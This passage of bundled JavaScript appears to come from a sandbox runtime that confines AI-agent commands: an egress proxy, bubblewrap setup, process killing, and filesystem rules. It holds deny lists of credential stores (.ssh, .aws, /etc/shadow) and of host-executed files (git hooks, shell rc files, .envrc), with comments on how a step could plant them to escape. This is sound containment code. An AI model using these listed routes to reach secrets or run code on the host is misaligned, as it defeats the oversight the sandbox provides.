            reason: 'massgen-exec egress proxy: not an HTTP proxy request'
        };
    if (target === egress/* HEALTH_PATH */.Tu)
        return { kind: 'health' };
    for (const f of fields) {
        const m = /^proxy-authorization:[ \t]*basic[ \t]+([A-Za-z0-9+/=]+)[ \t]*$/i.exec(f);
        if (!m)
            continue;
        const decoded = Buffer.from(m[1], 'base64').toString('utf8');
        const token = decoded.slice(decoded.indexOf(':') + 1);
        if (decoded.includes(':') && known(token))
            return { kind: 'agent', token };
    }
    return {
        kind: 'refuse',
        status: 403,
        rule: 'no-credential',
        reason: 'egress refused: the request carries no srt agent credential (an srt agent without ' +
            'command_line_egress has no network; with it, keep the proxy variables the sandbox sets)'
    };
}
/** The process-wide end of sandbox-runtime's bridge (see the top of this file). */
class SrtEgressFront {
    agents = new Map();
    sockets = new Set();
    server = (0,external_node_net_.createServer)((socket) => this.onConnection(socket));
    bound = 0;
    constructor() { }
    static async start() {
        const front = new SrtEgressFront();
        const { server } = front;
        await new Promise((resolve, reject) => {
            server.once('error', reject);
            server.listen(0, '127.0.0.1', () => {
                server.off('error', reject);
                resolve();
            });
        });
        const a = server.address();
        front.bound = typeof a === 'object' && a ? a.port : 0;
        return front;
    }
    /** The loopback port sandbox-runtime's bridge dials. */
    get port() {
        return this.bound;
    }
    /** Routes requests carrying `token` to `proxy` until the returned function is called. */
    register(token, proxy) {
        this.agents.set(token, proxy);
        return () => {
            if (this.agents.get(token) === proxy)
                this.agents.delete(token);
        };
    }
    async close() {
        const closed = new Promise((resolve) => this.server.close(() => resolve()));
        for (const s of this.sockets)
            s.destroy();
        await closed;
    }
    onConnection(socket) {
        this.sockets.add(socket);
        socket.on('error', () => socket.destroy());
        let head = Buffer.alloc(0);
        const timer = setTimeout(() => socket.destroy(), HEAD_TIMEOUT_MS);
        const done = () => {
            clearTimeout(timer);
            socket.off('data', onData);
            socket.off('close', onClose);
        };
        const onClose = () => {
            done();
            this.sockets.delete(socket);
        };
        const onData = (chunk) => {
            head = Buffer.concat([head, chunk]);
            // SOCKS (the library's in-sandbox :1080 bridges here too): no acceptable method / rejected.
            if (head[0] === 5 || head[0] === 4) {
                done();
                this.sockets.delete(socket);
                socket.end(Buffer.from(head[0] === 5 ? [5, 0xff] : [0, 0x5b, 0, 0, 0, 0, 0, 0]));
                return;
            }
            const end = head.indexOf('\r\n\r\n');
            if (end < 0 && head.length <= MAX_HEAD_BYTES)
                return;
            done();
            this.sockets.delete(socket);
            if (end < 0)
                return answer(socket, 431, 'bad-request', 'massgen-exec egress proxy: request head too large');
            const route = routeRequest(head.subarray(0, end).toString('latin1'), (t) => this.agents.has(t));
            if (route.kind === 'refuse')
                return answer(socket, route.status, route.rule, route.reason);
            if (route.kind === 'health')
                return answer(socket, 200, 'proxy', 'massgen-exec egress proxy');
            socket.pause();
            socket.unshift(head);
            this.agents.get(route.token).accept(socket);
        };
        socket.on('data', onData);
        socket.once('close', onClose);
    }
}
const STATUS_TEXT = {
    200: 'OK',
    400: 'Bad Request',
    403: 'Forbidden',
    431: 'Request Header Fields Too Large'
};
function answer(socket, status, rule, reason) {
    const body = `${reason}\n`;
    const text = STATUS_TEXT[status] ?? 'Error';
    socket.end(`HTTP/1.1 ${status} ${text}\r\nContent-Type: text/plain\r\n${egress/* PROXY_HEADER */.xE}: ${rule}\r\n` +
        `Connection: close\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`);
}

;// CONCATENATED MODULE: ./src/runtime/srt/manager.ts
// sandbox-runtime's SandboxManager is one per process (its network bridge, its mount-point
// bookkeeping). Every srt session shares it: the first session initializes it — with the egress
// front (network.ts) as the external proxy its bridge dials, and the seccomp helper located by
// deps.ts — each session passes its own filesystem rules per command and registers its own
// egress proxy with the front; the last session to close resets it and closes the front.
// Sessions see it only through `SandboxBackend`, which unit tests replace with a fake.








let shared;
/** The last release's reset: a new initialize waits for it (the library is one per process). */
let resetting = Promise.resolve();
/** The process-wide backend, initialized on first use. */
async function acquireBackend() {
    if (!shared)
        await resetting;
    if (!shared) {
        const s = { users: 0, ready: initialize() };
        shared = s;
        s.ready.catch(() => {
            if (shared === s)
                shared = undefined;
        });
    }
    const s = shared;
    s.users++;
    try {
        return (await s.ready).backend;
    }
    catch (e) {
        s.users--;
        throw e;
    }
}
/** One session is done with the backend; the last one resets the library and closes the front. */
async function releaseBackend() {
    if (!shared)
        return;
    const s = shared;
    s.users--;
    if (s.users > 0)
        return;
    shared = undefined;
    const reset = (async () => {
        const { front } = await s.ready;
        await dist/* SandboxManager */.NF.reset();
        await front.close();
    })();
    resetting = reset.catch(() => undefined);
    await reset;
}
async function initialize() {
    checkHostTools();
    checkUserNamespaces();
    const helper = locateSeccompHelper();
    const front = await SrtEgressFront.start();
    const config = {
        network: {
            // Defined (empty): the sandbox gets no network but the bridge. Both ports external: the
            // library starts no proxy of its own and bridges to the front, which decides.
            allowedDomains: [],
            deniedDomains: [],
            httpProxyPort: front.port,
            socksProxyPort: front.port
        },
        // Replaced per command by each session's own rules.
        filesystem: { denyRead: [], allowWrite: [], denyWrite: [] },
        seccomp: { applyPath: helper }
    };
    try {
        await dist/* SandboxManager */.NF.initialize(config);
    }
    catch (e) {
        await dist/* SandboxManager */.NF.reset().catch(() => undefined);
        await front.close();
        throw new errors/* EnvironmentError */.eG(`sandbox-runtime did not start: ${e.message}`);
    }
    const deps = dist/* SandboxManager */.NF.checkDependencies();
    if (deps.errors.length) {
        await dist/* SandboxManager */.NF.reset();
        await front.close();
        throw new errors/* EnvironmentError */.eG(`sandbox-runtime cannot run here: ${deps.errors.join('; ')}`);
    }
    const sockets = [
        dist/* SandboxManager */.NF.getLinuxHttpSocketPath(),
        dist/* SandboxManager */.NF.getLinuxSocksSocketPath()
    ].filter((p) => !!p);
    // A root runner's commands run as another uid (index.ts): let it reach the bridge's sockets.
    if (process.geteuid?.() === 0)
        for (const p of sockets)
            await (0,promises_.chmod)(p, 0o666).catch(() => undefined);
    // The bridge's sockets live in /tmp, which strict hides: read-allowed like the helper.
    // JVMs load the library's proxy agent from beside the helper (JAVA_TOOL_OPTIONS): same.
    const jarDir = (0,external_node_path_.join)((0,external_node_path_.dirname)((0,external_node_path_.dirname)((0,external_node_path_.dirname)(helper))), 'java-proxy-agent');
    const helpers = [(0,external_node_path_.dirname)(helper), ...((0,external_node_fs_.existsSync)(jarDir) ? [jarDir] : []), ...new Set(sockets)];
    const backend = new LibraryBackend(helpers, bwrapVersion(), front);
    try {
        await smokeTest(backend);
    }
    catch (e) {
        await front.close();
        throw e;
    }
    return { backend, front };
}
class LibraryBackend {
    helperPaths;
    version;
    front;
    constructor(helperPaths, version, front) {
        this.helperPaths = helperPaths;
        this.version = version;
        this.front = front;
    }
    async wrap(command, cwd, fs, ids) {
        // The library also returns an environment (this process's): ignored, the session gives its own.
        const { argv } = await dist/* SandboxManager */.NF.wrapWithSandboxArgv(command, '/bin/sh', { filesystem: fs }, undefined, cwd, ids);
        return argv;
    }
    done() {
        dist/* SandboxManager */.NF.cleanupAfterCommand();
    }
    registerEgress(token, proxy) {
        return this.front.register(token, proxy);
    }
}
function bwrapVersion() {
    const r = (0,external_node_child_process_.spawnSync)('bwrap', ['--version'], { encoding: 'utf8', timeout: 5000 });
    return (r.stdout ?? '').trim() || 'bubblewrap (version unknown)';
}
/**
 * One `true` in a sandbox before the first step: where unprivileged user namespaces are off
 * (Ubuntu 24.04's AppArmor default, some hardened kernels) bubblewrap fails here, once, with a
 * clear message instead of failing every step.
 */
async function smokeTest(backend) {
    const fs = { allowWrite: [], denyWrite: [], denyRead: [], allowRead: [] };
    const argv = await backend.wrap('true', '/', fs, {
        commandId: 'massgen-exec-srt-smoke-test-0000',
        commandText: 'true'
    });
    const r = await new Promise((resolve) => {
        const child = (0,external_node_child_process_.spawn)(argv[0], argv.slice(1), {
            cwd: '/',
            env: { PATH: process.env.PATH ?? '/usr/bin:/bin' },
            stdio: ['ignore', 'ignore', 'pipe']
        });
        let stderr = '';
        child.stderr.on('data', (c) => (stderr += c.toString()));
        const timer = setTimeout(() => child.kill('SIGKILL'), 20_000);
        child.on('error', (e) => resolve({ code: null, stderr: e.message }));
        child.on('close', (code) => {
            clearTimeout(timer);
            resolve({ code, stderr });
        });
    });
    backend.done();
    if (r.code !== 0) {
        await dist/* SandboxManager */.NF.reset().catch(() => undefined);
        throw new errors/* EnvironmentError */.eG(`the srt sandbox does not start on this host (exit ${r.code}): ${r.stderr.trim().slice(0, 500)}`, 'bubblewrap needs unprivileged user namespaces: on Ubuntu 24.04 run `sudo sysctl -w kernel.apparmor_restrict_unprivileged_userns=0`; in a container, run it with user namespaces allowed');
    }
}

// EXTERNAL MODULE: external "node:crypto"
var external_node_crypto_ = __webpack_require__(77598);
// EXTERNAL MODULE: ./src/lib/shell.ts
var shell = __webpack_require__(66861);
// EXTERNAL MODULE: ./src/runtime/file-lines.ts
var file_lines = __webpack_require__(86214);
// EXTERNAL MODULE: ./src/runtime/host/background.ts
var background = __webpack_require__(55579);
// EXTERNAL MODULE: ./src/runtime/host/environment.ts
var environment = __webpack_require__(81830);
// EXTERNAL MODULE: ./src/runtime/host/process.ts
var host_process = __webpack_require__(55638);
// EXTERNAL MODULE: ./src/runtime/host/process-tree.ts
var process_tree = __webpack_require__(49187);
// EXTERNAL MODULE: ./src/runtime/procfs.ts
var procfs = __webpack_require__(25481);
;// CONCATENATED MODULE: ./src/runtime/srt/kill.ts
// Killing a sandboxed step and proving it is gone. Everything a step starts runs inside the PID
// namespace bubblewrap made for it (--unshare-pid, --die-with-parent), so killing bubblewrap ends
// the namespace and the kernel kills every process in it. bubblewrap puts the sandbox in a session
// of its own, out of the spawned process group; the step's token (see host/process-tree.ts) still
// finds it. Then the proof: no live process is left in any PID namespace the step's processes
// were in, whatever they did to their environment.



/** The PID namespace of a process ("pid:[4026532301]"), or undefined when it is gone. */
async function pidNamespace(pid) {
    try {
        return await (0,promises_.readlink)(`/proc/${pid}/ns/pid`);
    }
    catch {
        return undefined;
    }
}
/** PID namespaces other than ours that `pids` are in. */
async function namespacesOf(pids) {
    const own = await pidNamespace('self');
    const found = new Set();
    for (const pid of pids) {
        const ns = await pidNamespace(pid);
        if (ns && ns !== own)
            found.add(ns);
    }
    return found;
}
/** Live (not zombie) processes in any of `namespaces`. */
async function pidsInNamespaces(namespaces) {
    if (namespaces.size === 0)
        return [];
    const found = [];
    await Promise.all((await (0,procfs/* otherPids */.Z)()).map(async (pid) => {
        const ns = await pidNamespace(pid);
        if (!ns || !namespaces.has(ns))
            return;
        try {
            const stat = await (0,promises_.readFile)(`/proc/${pid}/stat`, 'utf8');
            // Field 3, after the parenthesised command name (which may contain spaces).
            const state = stat.slice(stat.lastIndexOf(')') + 2, stat.lastIndexOf(')') + 3);
            if (state !== 'Z' && state !== 'X')
                found.push(pid);
        }
        catch {
            // gone
        }
    }));
    return found;
}
/**
 * SIGKILLs the step's process group and every process with its token, then checks that neither
 * a token process nor any process in the step's PID namespaces is alive. Returns the survivors
 * (normally none).
 */
async function killSandboxed(pgid, token) {
    if (pgid)
        signal(-pgid);
    // One scan when the step ended on its own and took everything with it (the common case).
    const running = await (0,process_tree/* pidsWithToken */.We)(token);
    if (running.length === 0)
        return [];
    const namespaces = await namespacesOf(running);
    const left = await (0,process_tree/* killTree */.TP)(pgid, token);
    // The namespace dies with its init, but not in the same instant: give it a moment.
    for (let i = 0; i < 50; i++) {
        const inside = await pidsInNamespaces(namespaces);
        if (inside.length === 0)
            return left;
        for (const pid of inside)
            signal(pid);
        await new Promise((r) => setTimeout(r, 20));
    }
    return [...new Set([...left, ...(await pidsInNamespaces(namespaces))])];
}
function signal(pid) {
    try {
        process.kill(pid, 'SIGKILL');
    }
    catch {
        // already gone
    }
}

// EXTERNAL MODULE: ./src/lib/paths.ts
var paths = __webpack_require__(9927);
;// CONCATENATED MODULE: ./src/runtime/srt/protected.ts
// The names inside an srt agent's writable paths that programs on the HOST run or obey later:
// a repository's hooks and config (`core.fsmonitor`, `core.hooksPath`, filters and aliases run
// commands on the host's next `git status`), shell rc and profile files, direnv's `.envrc`, IDE
// settings. sandbox-runtime has such a list of its own, but computes it against this process's
// working directory (process.cwd()), not the command's, so the workspace is covered only when
// the CLI happens to be started in it or one level above (and write context paths never). Here
// the list is computed per step for every writable path and passed as write denies, which the
// library binds read-only (an existing name) or covers with an empty read-only mount point (an
// absent one: an empty file, or an empty directory for `.git` and the IDE directories, made on
// the host while the step runs and removed by the library when it ends).
//
// A mount can only stand where a directory already is: a name created in a directory that did
// not exist when the step began (`mkdir -p new/.git/hooks`) cannot be refused. What such a step
// leaves behind is found by comparing the scans before and after it (`createdDuring`), removed
// and the step failed (session.ts).



/** Files, at any depth, that shells, direnv, git and tools read from the directory they are in. */
const PROTECTED_FILES = [
    '.gitconfig',
    '.gitmodules',
    '.bashrc',
    '.bash_profile',
    '.bash_login',
    '.bash_logout',
    '.profile',
    '.zshrc',
    '.zshenv',
    '.zprofile',
    '.zlogin',
    '.zlogout',
    '.kshrc',
    '.cshrc',
    '.tcshrc',
    '.login',
    '.envrc',
    '.ripgreprc',
    '.mcp.json'
];
/** Directories protected whole, at any depth. */
const PROTECTED_DIRS = ['.vscode', '.idea'];
/** What git runs or obeys inside a repository's git directory. */
const GIT_DIR_PROTECTED = ['hooks', 'config'];
/** Not walked: package trees (rewritten by installs; sandbox-runtime skips them too). */
const SKIPPED_DIRS = new Set(['node_modules']);
const MAX_ENTRIES = 200_000;
/** Whether `id` may create entries in directory `dir` (owner, group, other bits; root only in its own). */
function canCreateIn(dir, id) {
    let st;
    try {
        st = (0,external_node_fs_.statSync)(dir);
    }
    catch {
        return false;
    }
    if (!st.isDirectory())
        return false;
    const m = st.mode;
    // In the sandbox's user namespace root's capabilities cover only inodes it owns (mapped ids).
    if (st.uid === id.uid)
        return (m & 0o300) === 0o300 || (id.uid === 0 && st.uid === 0);
    if (st.gid === id.gid)
        return (m & 0o030) === 0o030;
    return (m & 0o003) === 0o003;
}
/** The nearest directory at or above `p` that exists. */
function nearestExisting(p) {
    let d = (0,external_node_path_.dirname)(p);
    while (!kind(d) && (0,external_node_path_.dirname)(d) !== d)
        d = (0,external_node_path_.dirname)(d);
    return d;
}
/** Every protected path of the writable roots: the roots' own names always, deeper ones found. */
function scanProtected(roots, opts = {}) {
    const deny = new Set();
    const present = new Set();
    const budget = { left: MAX_ENTRIES };
    for (const root of roots) {
        for (const f of [...PROTECTED_FILES, ...PROTECTED_DIRS])
            deny.add((0,external_node_path_.join)(root, f));
        const dotGit = kind((0,external_node_path_.join)(root, '.git'));
        if (dotGit === 'file')
            deny.add((0,external_node_path_.join)(root, '.git'));
        else
            for (const n of GIT_DIR_PROTECTED)
                deny.add((0,external_node_path_.join)(root, '.git', n));
        const skip = new Set((opts.skip ?? []).map((s) => (0,external_node_path_.join)(root, s)));
        walk(root, roots, skip, opts, deny, present, budget);
    }
    const creator = opts.creator;
    const denied = creator
        ? [...deny].filter((p) => kind(p) || canCreateIn(nearestExisting(p), creator))
        : [...deny];
    return { deny: denied, present, truncated: budget.left <= 0 };
}
function walk(dir, roots, skip, opts, deny, present, budget) {
    let entries;
    try {
        entries = (0,external_node_fs_.readdirSync)(dir, { withFileTypes: true });
    }
    catch {
        return;
    }
    for (const e of entries) {
        if (--budget.left <= 0)
            return;
        const p = (0,external_node_path_.join)(dir, e.name);
        if (skip.has(p))
            continue;
        if (PROTECTED_FILES.includes(e.name) || PROTECTED_DIRS.includes(e.name)) {
            deny.add(p);
            present.add(p);
        }
        else if (e.name === '.git') {
            if (e.isDirectory()) {
                gitDir(p, (0,external_node_path_.dirname)(p), roots, opts, deny);
                for (const n of GIT_DIR_PROTECTED)
                    if (kind((0,external_node_path_.join)(p, n)))
                        present.add((0,external_node_path_.join)(p, n));
            }
            else {
                deny.add(p);
                present.add(p);
            }
        }
        else if (e.isDirectory() && !SKIPPED_DIRS.has(e.name)) {
            walk(p, roots, skip, opts, deny, present, budget);
        }
    }
}
/** A repository's git directory: its hooks and config, its submodules', its hooksPath target. */
function gitDir(git, worktree, roots, opts, deny) {
    for (const n of GIT_DIR_PROTECTED)
        deny.add((0,external_node_path_.join)(git, n));
    for (const hooksPath of [configuredHooksPath((0,external_node_path_.join)(git, 'config')), opts.hostHooksPath]) {
        if (!hooksPath)
            continue;
        const target = (0,external_node_path_.isAbsolute)(hooksPath) ? hooksPath : (0,external_node_path_.resolve)(worktree, hooksPath);
        if (roots.some((r) => (0,paths/* isInside */.F)(target, r)))
            deny.add(target);
    }
    // Submodules keep their git directories in .git/modules/<name>/ (nested for theirs).
    const stack = [(0,external_node_path_.join)(git, 'modules')];
    while (stack.length) {
        const d = stack.pop();
        let entries;
        try {
            entries = (0,external_node_fs_.readdirSync)(d, { withFileTypes: true });
        }
        catch {
            continue;
        }
        if (entries.some((e) => e.name === 'HEAD' && e.isFile()))
            for (const n of GIT_DIR_PROTECTED)
                deny.add((0,external_node_path_.join)(d, n));
        for (const e of entries)
            if (e.isDirectory() && !['objects', 'refs', 'logs', 'hooks'].includes(e.name))
                stack.push((0,external_node_path_.join)(d, e.name));
    }
}
/** core.hooksPath as a repository's config file sets it (the last one wins, as in git). */
function configuredHooksPath(configFile) {
    let text;
    try {
        text = (0,external_node_fs_.readFileSync)(configFile, 'utf8');
    }
    catch {
        return undefined;
    }
    let section = '';
    let found;
    for (const raw of text.split('\n')) {
        const line = raw.trim();
        const s = /^\[\s*([A-Za-z0-9.-]+)[^\]]*\]\s*(.*)$/.exec(line);
        if (s) {
            section = s[1].toLowerCase();
            continue;
        }
        const kv = /^hookspath\s*=\s*(.*?)\s*$/i.exec(line);
        if (section === 'core' && kv)
            found = kv[1].replace(/^"(.*)"$/, '$1');
    }
    return found;
}
/**
 * Protected names present after a step that were not before, leaving out what the step's own
 * denies account for (the library's empty mount points stand at a denied path or at the first
 * missing directory above one).
 */
function createdDuring(before, after) {
    const denied = before.deny;
    return [...after.present]
        .filter((p) => !before.present.has(p))
        .filter((p) => !denied.some((d) => d === p || (0,paths/* isInside */.F)(d, p)))
        .sort();
}
function kind(p) {
    try {
        const s = (0,external_node_fs_.lstatSync)(p);
        return s.isDirectory() ? 'dir' : 'file';
    }
    catch {
        return undefined;
    }
}

;// CONCATENATED MODULE: ./src/runtime/srt/settings.ts
// The filesystem rules of an srt agent, derived from the same plan the other modes read (as
// MassGen's SrtManager derives them from its path permissions): writable = the workspace and the
// `write` context paths (minus protected paths) and nothing else; readable per read mode; secret
// stores never. Pure, so the rules can be tested without a sandbox.


/** Credential stores below $HOME that no read mode exposes (MassGen's list). */
const SECRET_STORES_IN_HOME = [
    '.ssh',
    '.aws',
    '.gnupg',
    '.netrc',
    '.npmrc',
    '.pypirc',
    '.docker/config.json',
    '.git-credentials',
    '.kube',
    '.azure',
    '.config/gcloud',
    '.config/gh'
];
const SECRET_STORES_ABSOLUTE = ['/etc/shadow', '/etc/gshadow'];
/**
 * What `strict` leaves readable besides the agent's own paths: what programs need to start and
 * run. /etc only in part, so that the host's identity (/etc/hostname, machine-id) and its
 * configuration stay hidden; /tmp, /var, /run, /home, /root not at all.
 */
const STRICT_BASELINE = [
    '/usr',
    '/bin',
    '/sbin',
    '/lib',
    '/lib32',
    '/lib64',
    '/libx32',
    '/opt',
    '/dev',
    '/proc',
    '/sys',
    '/etc/alternatives',
    '/etc/ld.so.cache',
    '/etc/ld.so.conf',
    '/etc/ld.so.conf.d',
    '/etc/passwd',
    '/etc/group',
    '/etc/nsswitch.conf',
    '/etc/localtime',
    '/etc/timezone',
    '/etc/ssl',
    '/etc/ca-certificates',
    '/etc/pki',
    '/etc/crypto-policies',
    '/etc/hosts',
    '/etc/host.conf',
    '/etc/resolv.conf',
    '/etc/gai.conf',
    '/etc/protocols',
    '/etc/services',
    '/etc/mime.types',
    '/etc/locale.alias',
    '/etc/default/locale',
    '/etc/os-release',
    '/etc/debian_version',
    '/etc/lsb-release',
    '/etc/inputrc',
    '/etc/terminfo',
    '/etc/bash.bashrc',
    '/etc/profile',
    '/etc/profile.d',
    '/etc/environment',
    '/etc/magic',
    '/etc/python3',
    '/etc/pip.conf',
    '/etc/gitconfig',
    '/etc/npmrc'
];
/**
 * Directories sandbox-runtime makes writable unless told otherwise: its own temp directory
 * (shared by every srt user on the host) and two log directories in $HOME. Denying them keeps
 * "the workspace and the write context paths, nothing else" true in every read mode.
 */
const LIBRARY_DEFAULT_WRITES_IN_HOME = ['.npm/_logs', '.claude/debug'];
const LIBRARY_DEFAULT_WRITES_ABSOLUTE = ['/tmp/claude'];
const lit = (path) => ({ path, literal: true });
function secretStores(home) {
    return [...SECRET_STORES_IN_HOME.map((r) => (0,external_node_path_.join)(home, r)), ...SECRET_STORES_ABSOLUTE];
}
/** Paths of the plan that lie inside a secret store (srt refuses to start such an agent). */
function pathsInSecretStores(agent, srt, home) {
    const stores = secretStores(home);
    const candidates = [
        agent.workspace,
        ...agent.contextPaths.map((c) => c.path),
        ...(agent.tempWorkspace ? [agent.tempWorkspace] : [])
    ];
    return candidates.filter((p) => stores.some((s) => (0,paths/* isInside */.F)(p, s)));
}
function buildFilesystem(input) {
    const { agent, srt, home } = input;
    const stores = [
        ...secretStores(home),
        ...(input.sandboxUserHome ? secretStores(input.sandboxUserHome) : [])
    ];
    const writable = srt.readOnly
        ? []
        : [
            agent.workspace,
            ...agent.contextPaths.filter((c) => c.permission === 'write').map((c) => c.path),
            ...(input.tmpDir ? [input.tmpDir] : [])
        ];
    const readOnlyPaths = [
        ...agent.contextPaths.filter((c) => c.permission === 'read').map((c) => c.path),
        ...(agent.tempWorkspace ? [agent.tempWorkspace] : [])
    ];
    const protectedPaths = agent.contextPaths
        .filter((c) => c.permission === 'write')
        .flatMap((c) => c.protectedPaths);
    // sandbox-runtime lets a write deny win even over a writable path below it, so a read-only
    // path goes into denyWrite only when it sits inside a writable one (elsewhere it is not
    // writable anyway, and denying it could make a workspace nested in it read-only).
    const denyWrite = [
        ...readOnlyPaths.filter((p) => writable.some((w) => w !== p && (0,paths/* isInside */.F)(p, w))),
        ...protectedPaths,
        ...LIBRARY_DEFAULT_WRITES_ABSOLUTE
    ];
    const managed = [
        agent.workspace,
        ...agent.contextPaths.map((c) => c.path),
        ...(agent.tempWorkspace ? [agent.tempWorkspace] : []),
        ...(agent.venvPath ? [agent.venvPath] : []),
        ...(input.tmpDir ? [input.tmpDir] : [])
    ];
    // A re-allowed read never reaches into a secret store: a listed store is more specific than
    // any allow above it and stays denied; an allow inside one is dropped here.
    const userAllow = srt.allowRead.filter((p) => !stores.some((s) => (0,paths/* isInside */.F)(p, s)));
    const denyRead = [
        ...(input.sandboxUserHome && srt.readMode !== 'strict' ? [lit(home)] : []),
        ...stores.map(lit),
        ...LIBRARY_DEFAULT_WRITES_IN_HOME.map((r) => lit((0,external_node_path_.join)(home, r))),
        ...srt.denyRead
    ];
    let allowRead;
    if (srt.readMode === 'confined') {
        if (!input.sandboxUserHome)
            denyRead.unshift(lit(home));
        allowRead = [...managed.map(lit), ...userAllow, ...input.helperPaths.map(lit)];
    }
    else if (srt.readMode === 'strict') {
        denyRead.unshift(lit('/'));
        allowRead = [
            ...managed.map(lit),
            ...STRICT_BASELINE.map(lit),
            ...userAllow,
            ...input.helperPaths.map(lit)
        ];
    }
    else {
        // open: everything but the denies; an allow only matters inside a user deny.
        allowRead = userAllow;
    }
    return {
        allowWrite: unique(writable).map(lit),
        denyWrite: unique(denyWrite).map(lit),
        denyRead: uniqueEntries(denyRead),
        allowRead: uniqueEntries(allowRead)
    };
}
function unique(xs) {
    return [...new Set(xs)];
}
function uniqueEntries(xs) {
    const seen = new Set();
    return xs.filter((x) => {
        const key = typeof x === 'string' ? `g:${x}` : `l:${x.path}`;
        if (seen.has(key))
            return false;
        seen.add(key);
        return true;
    });
}
/** The path an entry names (for messages and tests). */
function entryPath(e) {
    return typeof e === 'string' ? e : e.path;
}

;// CONCATENATED MODULE: ./src/runtime/srt/session.ts
// An srt agent session: every step — commands, background commands, write_file and read_file —
// runs through sandbox-runtime with the agent's filesystem rules, so file steps are confined
// exactly as commands are. A session on the host-process runtime (runtime/host: environment,
// output caps, results, background steps and their logs, as in local mode) whose kill is
// namespace-aware (kill.ts); egress through the agent's own endpoint (egress/endpoint.ts), switched
// per step by beginStep, behind the front (network.ts).















const q = shell/* shellQuote */.Z;
class SrtSession {
    opts;
    info;
    background = new background/* HostBackground */.b();
    closed = false;
    warnedTruncated = false;
    constructor(opts) {
        this.opts = opts;
        this.info = opts.info;
    }
    /** The session's private TMPDIR (gone after close). */
    get tmpDir() {
        return this.opts.tmpDir;
    }
    /** Egress from here on is this step's (the proxy refuses everything outside a step). */
    beginStep(step) {
        this.opts.egress?.endpoint.setStep(step);
    }
    /** What went out and what was refused, per step (undefined without command_line_egress). */
    egressReport() {
        return this.opts.egress?.endpoint.report();
    }
    async exec(req) {
        const started = Date.now();
        const before = this.scan();
        const { child, token } = await this.spawnStep(req, false, true, before);
        const end = await (0,host_process/* runHostStep */.Ox)(child, req, () => killSandboxed(child.pid, token), started);
        this.opts.backend.done();
        if (end.exit.error)
            throw end.exit.error;
        const violation = await this.sweep(before);
        const refused = this.opts.egress?.endpoint.refusalNote(started) ?? '';
        return (0,host_process/* hostResult */.YW)(end, [refused], violation ? { violation } : {});
    }
    /** The writable roots' protected names now (none for a read-only agent). */
    scan() {
        const roots = this.opts.fs.allowWrite.map(entryPath).filter((p) => p !== this.opts.tmpDir);
        const s = scanProtected(roots, {
            skip: this.opts.protectedSkip,
            hostHooksPath: this.opts.hostHooksPath,
            creator: this.opts.user ?? {
                uid: process.geteuid?.() ?? 0,
                gid: process.getegid?.() ?? 0
            }
        });
        if (s.truncated && !this.warnedTruncated) {
            this.warnedTruncated = true;
            this.opts.log?.('protected names: the writable paths hold over 200000 entries; names deeper than the scan reached are not protected');
        }
        return s;
    }
    /**
     * Protected names the step created where no mount could refuse them (in directories it made):
     * removed — inside the sandbox, as the sandbox user, so a link swapped in leads nowhere on the
     * host — and returned as the step's failure.
     */
    async sweep(before) {
        const created = createdDuring(before, this.scan());
        if (!created.length)
            return undefined;
        const r = await this.fileStep(`rm -rf -- ${created.map(q).join(' ')}`, undefined, false);
        const undone = r.code === 0 ? 'removed' : `NOT removed (${firstLine(r.stderr)})`;
        const names = created.slice(0, 5).join(', ') + (created.length > 5 ? ', …' : '');
        this.opts.log?.(`protected names created by a step (${undone}): ${created.join(', ')}`);
        return `created protected names the host would run or obey (${undone}): ${names}`;
    }
    async execBackground(req, name) {
        const { child, token } = await this.spawnStep(req, false, true, this.scan());
        this.background.add(name, req.command, child, req.maxOutputBytes, async () => {
            await killSandboxed(child.pid, token);
            this.opts.backend.done();
        });
    }
    /** Through the sandbox: a path the agent may not write cannot be written by a step either. */
    async writeFile(path, content) {
        const before = this.scan();
        const r = await this.fileStep(`mkdir -p -- ${q((0,external_node_path_.dirname)(path))} && cat > ${q(path)}`, content, true, before);
        const violation = await this.sweep(before);
        if (r.code !== 0)
            throw new Error(`write_file ${path}: ${firstLine(r.stderr) || `exit ${r.code}`}`);
        if (violation)
            throw new Error(`write_file ${path}: ${violation}`);
    }
    async readFile(path, offset, lineCount) {
        // `cat` writes nothing: no protected names to scan for.
        const r = await this.fileStep(`cat -- ${q(path)}`, undefined, false);
        if (r.code !== 0)
            throw new Error(`read_file ${path}: ${firstLine(r.stderr) || `exit ${r.code}`}`);
        return (0,file_lines/* sliceLines */.i)(r.stdout, offset, lineCount);
    }
    async saveLogs(dir) {
        await (0,promises_.mkdir)(dir, { recursive: true });
        // The rules the sandbox ran with, for whoever reads the results.
        await (0,promises_.writeFile)((0,external_node_path_.join)(dir, 'srt_settings.json'), JSON.stringify(this.opts.fs, null, 2) + '\n');
        await this.background.writeLogs(dir);
    }
    async close() {
        if (this.closed)
            return;
        this.closed = true;
        await this.background.stop();
        await this.opts.egress?.endpoint.close();
        if (this.opts.tmpDir)
            await (0,promises_.rm)(this.opts.tmpDir, { recursive: true, force: true }).catch(() => { });
        await this.opts.onClose();
    }
    /** Runs a file step's script with `stdin` (or none); FILE_STEP_TIMEOUT_MS at most. */
    async fileStep(script, stdin, protect = true, scan) {
        const run = await this.spawnStep({ command: script, cwd: this.opts.agent.workspace, env: {} }, stdin !== undefined, false, protect ? (scan ?? this.scan()) : undefined);
        const { child, token } = run;
        let stdout = '';
        let stderr = '';
        child.stdout.on('data', (c) => (stdout += c.toString()));
        child.stderr.on('data', (c) => (stderr += c.toString()));
        child.stdin?.on('error', () => undefined);
        child.stdin?.end(stdin);
        const timer = setTimeout(() => void killSandboxed(child.pid, token), defaults/* FILE_STEP_TIMEOUT_MS */.VN);
        const exit = await (0,host_process/* exitOf */.sX)(child);
        clearTimeout(timer);
        await killSandboxed(child.pid, token);
        await Promise.all([(0,host_process/* streamClosed */.P5)(child.stdout), (0,host_process/* streamClosed */.P5)(child.stderr)]);
        this.opts.backend.done();
        if (exit.error)
            throw exit.error;
        return { code: exit.code, stdout, stderr };
    }
    async spawnStep(req, withStdin, userCommand, 
    /** The protected names to deny (undefined: the product's own cleanup, unprotected). */
    scan) {
        if (this.closed)
            throw new Error('the srt session is closed');
        const token = (0,external_node_crypto_.randomUUID)();
        const commandId = (0,external_node_crypto_.randomBytes)(16).toString('base64url');
        const prepared = userCommand
            ? (0,environment/* prepareCommand */.fN)(this.opts.agent, req.command, req.cwd, { ...(0,environment/* baseEnvironment */.PZ)(), ...req.env })
            : { command: req.command, env: { ...(0,environment/* baseEnvironment */.PZ)(), ...req.env } };
        // sandbox-runtime sets TMPDIR (to its shared /tmp/claude) inside the sandbox, after our
        // environment: the session's private one is set again in front of the command.
